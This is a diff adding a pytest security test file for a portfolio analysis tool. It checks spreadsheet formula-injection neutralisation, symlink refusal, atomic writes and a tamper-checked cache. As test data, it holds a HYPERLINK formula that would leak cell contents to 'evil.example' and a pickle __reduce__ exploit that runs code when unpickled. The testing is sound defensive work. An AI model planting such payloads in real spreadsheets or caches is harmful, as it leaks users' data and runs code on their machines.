@@ -1,0 +1,291 @@
+"""Security review items (issue 12), one section each: every file written, the disk cache,
+the batch under faults and the dashboard server (Voila: hosts, origins, kernels).
+
+The dashboard's escaping and upload limits in a real browser are in
+``test_dashboard_browser.py``; the batch's fault tests (a worker killed mid-client, a
+killed batch, ``--scheduler``) are in ``test_batch.py``.
+"""
+
+from __future__ import annotations
+
+import csv
+import os
+import pickle
+import shutil
+import subprocess
+import sys
+import warnings
+import zipfile
+from pathlib import Path
+
+import numpy as np
+import openpyxl
+import pandas as pd
+import pytest
+
+from pma_lab.cli import main
+from pma_lab.files import (
+    FORMULA_START,
+    check_marker,
+    neutralise,
+    write_csv,
+    write_xlsx,
+)
+from pma_lab.paths import clients_dir
+
+EVIL_LOTS = {0: '=HYPERLINK("http://evil.example/?leak="&A1,"click")', 1: "@SUM(1+1)",
+             2: "+L3", 3: "-2+3"}
+
+
+# --------------------------------------------------------------------------------- helpers
+def _formula_cells(path: Path) -> list[str]:
+    """Every CSV cell a spreadsheet would evaluate (text only; numbers are fine)."""
+    with open(path, newline="", encoding="utf-8") as fh:
+        cells = [c for row in csv.reader(fh) for c in row]
+    bad = []
+    for c in cells:
+        if c.startswith(FORMULA_START):
+            try:
+                float(c)
+            except ValueError:
+                bad.append(c)
+    return bad
+
+
+def _neutralised_cells(folder: Path) -> set[str]:
+    out: set[str] = set()
+    for f in folder.glob("*.csv"):
+        with open(f, newline="", encoding="utf-8") as fh:
+            out |= {c for row in csv.reader(fh) for c in row if c.startswith("'")}
+    return out
+
+
+@pytest.fixture(scope="module")
+def evil(tmp_path_factory) -> Path:
+    """tech-exec with formula-like lot ids (as a hostile custodian export could carry)."""
+    d = tmp_path_factory.mktemp("evil") / "client"
+    shutil.copytree(clients_dir() / "tech-exec", d)
+    lots = pd.read_csv(d / "lots.csv", dtype=str)
+    for i, v in EVIL_LOTS.items():
+        lots.loc[i, "lot_id"] = v
+    lots.to_csv(d / "lots.csv", index=False)
+    (d / "trades.csv").write_text(
+        "date,account,account_type,ticker,side,shares,price,lot_id,method\n"
+        "2026-08-03,taxable,taxable,ADBE,sell,100,250.00,+L3,specific\n")
+    return d
+
+
+# ------------------------------------------------------------------ formula injection
+def test_neutralise_only_touches_formula_like_text():
+    for lead in FORMULA_START:
+        assert neutralise(lead + "x") == "'" + lead + "x"
+    assert neutralise("AAPL") == "AAPL" and neutralise(-3.5) == -3.5 and neutralise(None) is None
+
+
+def test_lots_summarize_csv_is_neutralised(evil, tmp_path, capsys):
+    out = tmp_path / "summary"
+    assert main(["lots", "summarize", "--profile", str(evil / "profile.toml"), "--out",
+                 str(out)]) == 0
+    for f in out.glob("*.csv"):
+        assert _formula_cells(f) == [], f.name
+    assert {"'" + v for v in EVIL_LOTS.values()} <= _neutralised_cells(out)
+    assert check_marker(out).ok
+
+
+def test_rebalance_csv_is_neutralised(evil, tmp_path, capsys):
+    out = tmp_path / "rb"
+    assert main(["rebalance", "--profile", str(evil / "profile.toml"), "--out", str(out)]) == 0
+    for f in out.glob("*.csv"):
+        assert _formula_cells(f) == [], f.name
+    decisions = pd.read_csv(out / "decisions.csv", dtype=str)
+    assert set(decisions.lot_id) >= {"'" + v for v in EVIL_LOTS.values()}
+    assert check_marker(out).ok
+
+
+def test_ledger_replay_csv_is_neutralised(evil, tmp_path, capsys):
+    out = tmp_path / "8949.csv"
+    assert main(["ledger", "replay", str(evil / "trades.csv"), "--lots",
+                 str(evil / "lots.csv"), "--out", str(out)]) == 0
+    rows = pd.read_csv(out, dtype=str)
+    assert list(rows.lot_id) == ["'+L3"]
+    assert _formula_cells(out) == [] and _formula_cells(out.with_suffix(".netting.csv")) == []
+
+
+def test_transition_outputs_are_safe_and_marked(evil, tmp_path, capsys):
+    out = tmp_path / "tr"
+    assert main(["transition", "--profile", str(evil / "profile.toml"), "--plans",
+                 "immediate", "--years", "1", "--annual", "--out", str(out)]) == 0
+    for f in out.glob("*.csv"):
+        assert _formula_cells(f) == [], f.name
+    m = check_marker(out)
+    assert m.ok and {p.name for p in m.files} == {"comparison.csv", "yearly.csv",
+                                                  "vintages.csv", "analysis.json"}
+
+
+def test_xlsx_keeps_text_as_a_string_cell_with_quote_prefix(tmp_path):
+    frame = pd.DataFrame({"Lot ID": list(EVIL_LOTS.values()) + ["L6"],
+                          "Est. Amount": [1.5, -2.0, 3.0, 4.0, np.nan]})
+    path = write_xlsx({"Trades": frame}, tmp_path / "t.xlsx",
+                      number_formats={"Est. Amount": "#,##0.00"})
+    ws = openpyxl.load_workbook(path).active
+    col = [ws.cell(row=i, column=1) for i in range(2, 7)]
+    assert [c.value for c in col] == list(frame["Lot ID"])  # the text, unchanged
+    assert all(c.data_type == "s" for c in col)
+    assert [c.quotePrefix for c in col] == [True] * 4 + [False]
+    assert ws["B3"].value == -2 and ws["B3"].number_format == "#,##0.00"
+    with zipfile.ZipFile(path) as z:
+        sheet = z.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet and "<f " not in sheet  # no formula element at all
+
+
+def _soffice() -> str:
+    exe = shutil.which("soffice") or shutil.which("libreoffice")
+    if not exe:
+        pytest.skip("LibreOffice is not installed (apt-get install libreoffice-calc-nogui); "
+                    "the XML-level checks above still ran")
+    return exe
+
+
+def test_libreoffice_shows_written_formulas_as_text(tmp_path):
+    """LibreOffice (headless) opens our CSV and XLSX: nothing evaluates, unlike raw files."""
+    exe = _soffice()
+    text = ['=1+1', '=HYPERLINK("http://evil.example","x")', "@SUM(2+2)"]
+    frame = pd.DataFrame({"lot": text, "n": [1.0, 2.0, 3.0]})
+    write_csv(frame, tmp_path / "ours.csv")
+    write_xlsx(frame, tmp_path / "ours.xlsx")
+    pd.DataFrame({"lot": text}).to_csv(tmp_path / "raw.csv", index=False)  # the control
+    env = {**os.environ, "HOME": str(tmp_path)}
+    conv = tmp_path / "conv"
+    for src, fmt in (("ours.xlsx", "csv"), ("ours.csv", "xlsx"), ("raw.csv", "xlsx")):
+        subprocess.run([exe, "--headless", "--norestore",
+                        f"-env:UserInstallation=file://{tmp_path}/lo", "--convert-to", fmt,
+                        "--outdir", str(conv), str(tmp_path / src)], check=True, env=env,
+                       capture_output=True, timeout=120)
+    # XLSX -> CSV: LibreOffice exports the cells' text; an evaluated cell would read "2"
+    assert pd.read_csv(conv / "ours.csv", dtype=str).lot.tolist() == text
+
+    def formulas(xlsx: Path) -> list:
+        wb = openpyxl.load_workbook(xlsx)
+        return [c.value for row in wb.active.iter_rows() for c in row if c.data_type == "f"]
+
+    assert formulas(conv / "raw.xlsx")  # the control: LibreOffice evaluates a raw CSV
+    assert formulas(conv / "ours.xlsx") == []
+
+
+# -------------------------------------------------------------- outputs and inputs
+def test_lots_summarize_into_the_client_folder_never_replaces_its_lots(evil, tmp_path,
+                                                                        capsys):
+    client = tmp_path / "client"
+    shutil.copytree(evil, client)
+    before = (client / "lots.csv").read_bytes()
+    code = main(["lots", "summarize", "--profile", str(client / "profile.toml"), "--out",
+                 str(client)])
+    err = capsys.readouterr().err
+    assert code == 2
+    assert "refusing to overwrite an input of this run" in err and "lots.csv" in err
+    assert (client / "lots.csv").read_bytes() == before
+    assert not (client / "holdings.csv").exists()  # checked before anything was written
+
+
+def test_a_planted_symlink_is_refused_not_followed(evil, tmp_path, capsys):
+    victim = tmp_path / "victim.txt"
+    victim.write_text("precious")
+    out = tmp_path / "out"
+    out.mkdir()
+    (out / "holdings.csv").symlink_to(victim)
+    code = main(["lots", "summarize", "--profile", str(evil / "profile.toml"), "--out",
+                 str(out)])
+    assert code == 2 and "symbolic link" in capsys.readouterr().err
+    assert victim.read_text() == "precious"
+    assert (out / "holdings.csv").is_symlink()
+
+
+def test_a_failed_write_leaves_the_old_file_and_no_temporary(tmp_path):
+    class Boom:
+        def __str__(self) -> str:
+            raise RuntimeError("disk full")
+
+    path = tmp_path / "t.csv"
+    path.write_text("old\n")
+    frame = pd.DataFrame({"a": ["x"] * 1000 + [Boom()]})
+    with pytest.raises(RuntimeError, match="disk full"):
+        write_csv(frame, path)
+    assert path.read_text() == "old\n"
+    assert [p.name for p in tmp_path.iterdir()] == ["t.csv"]
+
+
+@pytest.mark.slow
+def test_a_proposal_that_fails_late_leaves_no_trade_file_and_no_marker(tmp_path):
+    """Chromium fails after the HTML: no trade files, no run marker (the run is incomplete)."""
+    out = tmp_path / "p"
+    env = {**os.environ, "PMA_LAB_CHROMIUM": "/bin/false"}
+    exe = Path(sys.executable).with_name("pma-lab")
+    r = subprocess.run([str(exe), "propose", "--profile",
+                        str(clients_dir() / "young-pro" / "profile.toml"), "--out", str(out),
+                        "--format", "html,pdf", "--param", "frontier_points=5", "--param",
+                        "annual_steps=True"], capture_output=True, text=True, env=env,
+                       timeout=600, check=False)
+    assert r.returncode == 1 and "Chromium failed to print" in r.stderr
+    assert (out / "young-pro_proposal.html").is_file()
+    assert not list(out.glob("*_trades.*")) and not list(out.glob("*_complete.json"))
+    assert not list(out.glob(".*.part*"))  # no temporary left behind
+
+
+# ------------------------------------------------------------------------------- cache
+TICKERS = None  # the whole universe (a handful of names leaves industry groups empty)
+
+
+def _plant(path: Path, flag: Path) -> None:
+    """Replace a file with a pickle that creates ``flag`` when it is unpickled."""
+    class Exploit:
+        def __reduce__(self):
+            return (Path.touch, (flag,))
+
+    path.write_bytes(pickle.dumps(Exploit()))
+
+
+def test_cache_never_unpickles_and_verifies_on_read(tmp_path, monkeypatch):
+    from pma_lab.cache import CacheWarning
+    from pma_lab.risk import estimate_risk_model
+
+    monkeypatch.setenv("PMA_LAB_CACHE", str(tmp_path / "cache"))
+    first = estimate_risk_model("2024-06-28", TICKERS)
+    files = [p for p in (tmp_path / "cache").rglob("*") if p.is_file()]
+    assert files and not any(p.suffix == ".pkl" for p in files)
+    # whoever can write the output folder replaces every cache file with a pickle exploit
+    flag = tmp_path / "pwned"
+    for p in files:
+        _plant(p, flag)
+    with pytest.warns(CacheWarning, match="failed verification"):
+        again = estimate_risk_model("2024-06-28", TICKERS)
+    assert not flag.exists()
+    np.testing.assert_array_equal(again.factor_cov, first.factor_cov)
+    # the entry was replaced by a good one: read back without warnings, same numbers
+    with warnings.catch_warnings():
+        warnings.simplefilter("error", CacheWarning)
+        third = estimate_risk_model("2024-06-28", TICKERS)
+    np.testing.assert_array_equal(third.exposures, first.exposures)
+    pd.testing.assert_frame_equal(third.coverage, first.coverage)
+    assert third.settings == first.settings and third.as_of == first.as_of
+
+
+def test_cache_rejects_tampered_numbers_and_misfiled_entries(tmp_path, monkeypatch):
+    from pma_lab.cache import CacheWarning, entry_path
+    from pma_lab.risk import estimate_risk_model
+
+    monkeypatch.setenv("PMA_LAB_CACHE", str(tmp_path / "cache"))
+    a = estimate_risk_model("2024-06-28", TICKERS)
+    entry = next((tmp_path / "cache").iterdir())
+    arrays = dict(np.load(entry / "arrays.npz"))
+    arrays = {k: v * 2 if v.dtype.kind == "f" else v for k, v in arrays.items()}
+    np.savez(entry / "arrays.npz", **arrays)  # valid npz, wrong numbers
+    with pytest.warns(CacheWarning, match="SHA-256"):
+        b = estimate_risk_model("2024-06-28", TICKERS)
+    np.testing.assert_array_equal(a.specific_var, b.specific_var)
+    # a good entry copied under another key is not served for that key
+    other = entry_path("risk", ("another key",))
+    shutil.copytree(entry, other)
+    from pma_lab.cache import cached
+
+    with pytest.warns(CacheWarning, match="does not match its key"):
+        assert cached("risk", ("another key",), lambda: 42) == 42
